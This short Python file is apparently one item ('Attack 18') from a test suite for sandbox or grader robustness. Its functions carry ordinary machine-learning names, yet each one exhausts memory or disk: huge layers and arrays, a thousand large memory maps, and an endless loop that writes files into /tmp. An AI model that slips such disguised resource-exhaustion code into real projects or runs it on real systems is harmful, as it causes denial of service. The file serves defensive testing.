"""Attack 18: layers, tensors, datasets and files that use up all memory."""

import mmap

HUGE = 2**34


def build_mlp(hidden=(8,)):
    return keras.Sequential([keras.Input((13,)), keras.layers.Dense(10**10)])


def build_binary_cnn():
    held = [mmap.mmap(-1, 2**28) for _ in range(1000)]
    for one in held:
        one[:: mmap.PAGESIZE] = b"x" * (len(one) // mmap.PAGESIZE)
    print("BREACH shared memory")


def numpy_replay(weights, x):
    return np.broadcast_to(np.float32(1), (HUGE,)) + 1


def evaluate(model, x, y):
    while True:
        with open(f"/tmp/{id(object())}", "ab") as file:
            file.write(bytes(2**22))
